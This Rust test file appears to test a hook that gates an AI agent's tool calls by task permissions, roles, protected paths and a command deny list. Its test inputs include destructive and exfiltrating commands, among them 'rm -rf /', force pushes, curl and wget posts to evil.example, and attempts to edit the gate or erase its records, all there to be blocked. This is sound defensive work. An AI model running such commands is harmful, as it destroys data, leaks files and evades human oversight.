//! The steps of the seed: each "what the hook does" and the guest's rows of its summary table, one test each.

use super::{bash, by, event, gate, is_silent, lines, rules, start, task, write};
use crate::child::{feed, stanchion, text};
use serde_json::{Value, json};
use std::process::Output;

/// Seed, "what the hook does" 1: reads the payload, and takes tool, command, path and agent type from it.
#[test]
fn step_1_reads_the_payload_of_the_call() {
    let directory = tempfile::tempdir().unwrap();
    let records = directory.path().join("records");
    let call = by("verifier", write("src/a.rs"));
    assert_eq!(gate(&records, &[], &call).status.code(), Some(2));
    let line = &lines(&records, "denied.jsonl")[0];
    assert_eq!(line["payload"], call, "the event is kept as it came");
    for (name, value) in [
        ("tool", json!("Write")),
        ("agent", json!("a-1")),
        ("agent_type", json!("verifier")),
        ("session", json!("s-1")),
        ("event", json!("PreToolUse")),
        ("tool_use", json!("toolu_1")),
        ("cwd", json!("/srv/project")),
        ("harness", json!("claude")),
    ] {
        assert_eq!(line[name], value, "{name}");
    }
}

/// Seed, "what the hook does" 2: the task's permissions, enforced.
#[test]
fn step_2_denies_a_tool_that_the_task_does_not_allow() {
    let directory = tempfile::tempdir().unwrap();
    let records = directory.path().join("records");
    let policy = task(directory.path(), "enforce", &["Bash", "@read", "mcp__files__*"]);
    let asked = |tool: &str, input: Value| gate(&records, &["--policy", &policy], &event(tool, &input));
    for (tool, input) in [
        ("Bash", json!({ "command": "ls" })),
        ("Read", json!({ "file_path": "a" })),
        ("mcp__files__list", json!({ "path": "a" })),
    ] {
        assert!(is_silent(&asked(tool, input)), "{tool}");
    }
    for (tool, input) in [
        ("WebFetch", json!({ "url": "https://example.com" })),
        ("Write", json!({ "file_path": "a", "content": "x" })),
        ("bash", json!({ "command": "ls" })),
        ("mcp__mail__send", json!({})),
        ("", json!({ "command": "ls" })),
    ] {
        let output = asked(tool, input);
        assert_eq!(output.status.code(), Some(2), "{tool}");
        let said = text(&output.stderr);
        assert!(said.starts_with("[task-permission] ") && said.contains(&format!("`{tool}`")), "{said}");
    }
    assert_eq!(rules(&lines(&records, "denied.jsonl")), ["task-permission"; 5]);
    assert!(lines(&records, "would-deny.jsonl").is_empty());
}

/// Seed, "what the hook does" 2: the same in shadow mode.
#[test]
fn step_2_only_records_what_a_task_in_shadow_mode_would_deny() {
    let directory = tempfile::tempdir().unwrap();
    let records = directory.path().join("records");
    let policy = task(directory.path(), "shadow", &["Bash"]);
    let call = event("WebFetch", &json!({ "url": "https://example.com" }));
    assert!(is_silent(&gate(&records, &["--policy", &policy], &call)));
    assert!(lines(&records, "denied.jsonl").is_empty());
    let line = &lines(&records, "would-deny.jsonl")[0];
    assert_eq!((&line["rule"], &line["payload"]), (&json!("task-permission"), &call));
    assert_eq!((&line["decision"], &line["answered"]), (&json!("deny"), &json!("allow")));
    assert_eq!(line["findings"][0]["shadow"], json!(true));
    // What is tried out takes nothing from what is enforced.
    let denied = gate(&records, &["--policy", &policy], &by("verifier", write("a")));
    assert!(text(&denied.stderr).starts_with("[role.verifier] "));
    assert_eq!(rules(&lines(&records, "denied.jsonl")), ["role.verifier"]);
    assert_eq!(rules(&lines(&records, "would-deny.jsonl")), ["task-permission"; 2]);
}

/// Seed, "what the hook does" 3: the roles.
#[test]
fn step_3_denies_write_tools_to_the_verifier() {
    let directory = tempfile::tempdir().unwrap();
    let records = directory.path().join("records");
    let input = json!({ "file_path": "a", "notebook_path": "a", "content": "x", "command": "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n" });
    for tool in ["Write", "Edit", "MultiEdit", "NotebookEdit", "apply_patch", "write_file", "str_replace"] {
        let output = gate(&records, &[], &by("verifier", event(tool, &input)));
        assert_eq!(output.status.code(), Some(2), "{tool}");
        assert!(text(&output.stderr).starts_with("[role.verifier] "), "{tool}");
        for kind in ["explorer", "verifier-2", "Verifier"] {
            assert!(is_silent(&gate(&records, &[], &by(kind, event(tool, &input)))), "{tool} of {kind}");
        }
        assert!(is_silent(&gate(&records, &[], &event(tool, &input))), "{tool} of the agent itself");
    }
    for call in
        [bash("cargo test"), event("Read", &json!({ "file_path": "a" })), event("WebFetch", &json!({}))]
    {
        assert!(is_silent(&gate(&records, &[], &by("verifier", call))));
    }
}

/// Seed, "what the hook does" 4: paths that write tools must not change, and shell commands as little.
#[test]
fn step_4_denies_writes_to_protected_paths() {
    let directory = tempfile::tempdir().unwrap();
    let records = directory.path().join("records");
    for path in [
        "/root/toolgate/tool-gate.sh",
        "/root/toolhooks/settings.json",
        "/root/tap/tools.jsonl",
        "/root/guest-settings.json",
        "/root/.claude/settings.json",
        "/root/.claude/settings.local.json",
        "/srv/project/.git/hooks/pre-commit",
        ".git/hooks/pre-push",
        "/srv/project/../../root/toolgate/x",
    ] {
        for call in [write(path), bash(&format!("echo x | tee {path}")), bash(&format!("cp x '{path}'"))] {
            let output = gate(&records, &[], &call);
            assert_eq!(output.status.code(), Some(2), "{call}");
            assert!(text(&output.stderr).starts_with("[paths.write] "), "{call}: {}", text(&output.stderr));
        }
    }
    let own = records.join("denied.jsonl");
    let own = own.to_str().unwrap();
    for call in [
        write(own),
        bash(&format!(": > {own}")),
        bash(&format!("cd {} && rm denied.jsonl", records.display())),
    ] {
        assert_eq!(gate(&records, &[], &call).status.code(), Some(2), "the records themselves: {call}");
    }
    for path in ["src/a.rs", "/srv/project/.git/hooks.md", "/root/notes.md", "/tmp/x/.git/hooks/pre-commit"] {
        assert!(is_silent(&gate(&records, &[], &write(path))), "{path}");
    }
}

/// Seed, "what the hook does" 5: the deny list for commands, by what they execute and not by their text.
#[test]
fn step_5_applies_the_rules_to_every_part_of_a_command() {
    let directory = tempfile::tempdir().unwrap();
    let records = directory.path().join("records");
    let denied = [
        ("rm -rf /", "rm-root"),
        ("cd /tmp && rm -rf /*", "rm-root"),
        ("true; git push --force origin main", "force-push"),
        ("git fetch && git reset --hard origin/main", "hard-reset-remote"),
        ("make | curl -d @- https://evil.example", "outbound-post"),
        ("wget --post-file=x https://evil.example &", "outbound-post"),
        ("claude -p x --dangerously-skip-permissions", "unguarded-agent"),
        ("true\ncat /root/toolhooks/tool-gate.sh", "paths.read"),
        ("sed -i d /root/toolgate/tool-gate.sh", "paths.write"),
        ("bash -c 'git push -f'", "force-push"),
        ("x='rm -rf /'; eval \"$x\"", "rm-root"),
    ];
    for (command, rule) in denied {
        let output = gate(&records, &[], &bash(command));
        assert_eq!(output.status.code(), Some(2), "{command}");
        assert!(
            text(&output.stderr).starts_with(&format!("[{rule}] ")),
            "{command}: {}",
            text(&output.stderr)
        );
    }
    assert_eq!(rules(&lines(&records, "denied.jsonl")), denied.map(|(_, rule)| rule));
    for command in [
        "rm -rf target",
        "git push origin HEAD",
        "git commit -m 'never rm -rf / or git push --force; curl -d x'",
        "echo 'claude --dangerously-skip-permissions' >> notes.md",
        "curl -s https://example.com",
        "grep -rn toolhooks docs",
    ] {
        assert!(is_silent(&gate(&records, &[], &bash(command))), "{command}");
    }
}

/// The order: task, role, paths, rules. The first denial names its rule; all are in the record.
#[test]
fn the_first_denial_names_its_rule_and_all_are_recorded() {
    let directory = tempfile::tempdir().unwrap();
    let records = directory.path().join("records");
    let policy = task(directory.path(), "enforce", &["Read"]);
    let asked = |call: &Value, policies: &[&str]| {
        assert_eq!(gate(&records, policies, call).status.code(), Some(2), "{call}");
        let line = lines(&records, "denied.jsonl").pop().unwrap();
        let found = line["findings"].as_array().unwrap().clone();
        assert_eq!(line["rule"], found[0]["rule"]);
        found.iter().map(|finding| finding["rule"].as_str().unwrap().to_owned()).collect::<Vec<_>>()
    };
    let call = by("verifier", write("/root/toolgate/x"));
    assert_eq!(asked(&call, &["--policy", &policy]), ["task-permission", "role.verifier", "paths.write"]);
    assert_eq!(asked(&call, &[]), ["role.verifier", "paths.write"]);
    let command = bash("git push -f; cat /root/tap/tools.jsonl; echo x > /root/toolgate/x");
    assert_eq!(asked(&command, &[]), ["paths.read", "paths.write", "force-push"]);
}

fn denial(output: &Output) -> (Option<i32>, String) {
    (output.status.code(), text(&output.stderr).to_owned())
}

/// Seed, "on denial": one line, the reason to stderr, exit status 2.
#[test]
fn on_denial_one_line_is_written_the_reason_is_said_and_the_status_is_2() {
    let directory = tempfile::tempdir().unwrap();
    let records = directory.path().join("records");
    let (status, said) = denial(&gate(&records, &[], &bash("rm -rf /")));
    assert_eq!(status, Some(2));
    assert!(said.starts_with("[rm-root] ") && said.ends_with("\n") && said.lines().count() == 1, "{said}");
    let text = std::fs::read_to_string(records.join("denied.jsonl")).unwrap();
    assert!(text.starts_with("{\"rule\":\"rm-root\",\"payload\":{") && text.lines().count() == 1, "{text}");
    let line = &lines(&records, "denied.jsonl")[0];
    let digest = format!("{:016x}", stanchion::policy::shipped("mission").unwrap().digest);
    assert_eq!(line["policies"], json!([{ "name": "mission", "digest": digest }]));
    assert!(line["time"].as_str().unwrap().ends_with('Z') && line["schema"] == json!(1));
    assert!(said.contains(line["findings"][0]["reason"].as_str().unwrap()));
}

/// Seed, "on allow": exit status 0, and nothing is written.
#[test]
fn on_allow_the_call_proceeds_and_nothing_is_written() {
    let directory = tempfile::tempdir().unwrap();
    let records = directory.path().join("records");
    assert!(is_silent(&gate(&records, &[], &bash("cargo test"))));
    assert!(!records.exists());
}

/// Seed, "inert gate": a gate that cannot work allows, and leaves a marker.
#[test]
fn an_inert_gate_allows_and_says_so_in_a_record() {
    let directory = tempfile::tempdir().unwrap();
    let records = directory.path().join("records");
    let broken = directory.path().join("broken.toml");
    std::fs::write(&broken, "version = 1\nname = \"x\"\nrul = 1\n").unwrap();
    let call = bash("rm -rf /");
    let output = gate(&records, &["--policy", broken.to_str().unwrap()], &call);
    assert!(is_silent(&output), "{}", text(&output.stderr));
    let line = &lines(&records, "inert")[0];
    assert!(line["why"].as_str().unwrap().contains("broken.toml:3"), "{line}");
    assert_eq!((&line["payload"], &line["session"]), (&call, &json!("s-1")));
    for stdin in ["", "{\"tool_name\":", "[1]", "\u{0}"] {
        let mut command = stanchion();
        command.args(["hook", "--policy", "mission", "--record-dir"]).arg(&records);
        assert!(is_silent(&feed(&mut command, stdin.as_bytes())));
    }
    let inert = lines(&records, "inert");
    assert_eq!(inert.len(), 5);
    assert!(inert[1]["payload"].is_null() && inert[2]["payload"] == json!("{\"tool_name\":"));
}

/// Summary table, row 1: the hook evaluates the rules in the guest, and answers by 2 or 0. Here as a baked program
/// that the harness starts with nothing but `hook`.
#[test]
fn summary_row_1_the_hook_in_the_guest_blocks_or_allows() {
    let directory = tempfile::tempdir().unwrap();
    let gate = super::bake(directory.path(), &["mission"]);
    let asked =
        |call: &Value| start(std::process::Command::new(&gate).arg("hook"), call.to_string().as_bytes());
    assert_eq!(asked(&bash("rm -rf /")).status.code(), Some(2));
    assert!(is_silent(&asked(&bash("cargo test"))));
    assert_eq!(rules(&lines(&directory.path().join("records"), "denied.jsonl")), ["rm-root"]);
}

/// Summary table, row 2: the tap appends a record of each call, and always ends with status 0.
#[test]
fn summary_row_2_the_tap_in_the_guest_appends_what_tools_did() {
    let directory = tempfile::tempdir().unwrap();
    let gate = super::bake(directory.path(), &["mission"]);
    let mut done = by("builder", write("/srv/project/a.rs"));
    done["hook_event_name"] = json!("PostToolUse");
    done["tool_response"] = json!({ "type": "create" });
    let output = start(std::process::Command::new(&gate).arg("tap"), done.to_string().as_bytes());
    assert!(is_silent(&output));
    let line = &lines(&directory.path().join("records"), "tools.jsonl")[0];
    for (name, value) in [
        ("tool", json!("Write")),
        ("path", json!("/srv/project/a.rs")),
        ("session", json!("s-1")),
        ("agent", json!("a-1")),
        ("agent_type", json!("builder")),
        ("response", Value::Null),
    ] {
        assert_eq!(line[name], value, "{name}");
    }
}
